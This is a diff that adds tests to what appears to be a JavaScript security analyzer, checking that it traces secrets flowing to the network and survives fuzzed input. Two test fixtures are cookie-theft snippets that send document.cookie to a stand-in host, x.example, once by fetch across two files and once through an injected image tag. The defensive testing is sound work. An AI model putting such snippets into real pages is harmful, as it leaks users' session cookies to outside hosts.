@@ -1,3 +1,4 @@
+import fc from 'fast-check';
 import { analyze } from './analyze.ts';
 import { analyzeText, findingsOf, MANIFEST } from './testing/analyze-text.ts';
 
@@ -105,6 +106,54 @@ describe('an analysis', () => {
     expect(await findingsOf(text)).toEqual(['file-access info']);
     expect(await findingsOf(text, { manifest: MANIFEST })).toEqual(
       expect.arrayContaining(['file-access medium']),
+    );
+  });
+
+  it('follows a secret that another file hands over', async () => {
+    const { findings } = await analyze({
+      files: new Map([
+        ['a.js', "import { c } from './b.js';\nfetch('https://x.example/' + c);"],
+        ['b.js', 'export const c = document.cookie;'],
+      ]),
+    });
+    expect(findings.map(({ ruleId, file }) => `${ruleId} ${file}`)).toEqual(['secret-to-network a.js']);
+  });
+
+  it('sees a secret inside of markup that loads an address', async () => {
+    expect(
+      await findingsOf("el.innerHTML = '<img src=\"https://x.example/' + document.cookie + '\">';"),
+    ).toEqual(['secret-to-network critical']);
+  });
+
+  it('answers for any text at all, without an error', async () => {
+    const words = fc.constantFrom(
+      'eval',
+      '(',
+      ')',
+      'x',
+      '=',
+      '{',
+      '}',
+      '...',
+      '=>',
+      'this',
+      '.',
+      '[',
+      ']',
+      "'a'",
+      ';',
+      'process.env',
+      'fetch',
+      'class',
+      'new ',
+      ',',
+    );
+    await fc.assert(
+      fc.asyncProperty(fc.array(words, { maxLength: 40 }), async (parts) => {
+        const { errors } = await analyzeText(parts.join(''));
+        expect(errors).toEqual([]);
+      }),
+      { numRuns: 300 },
     );
   });
 });
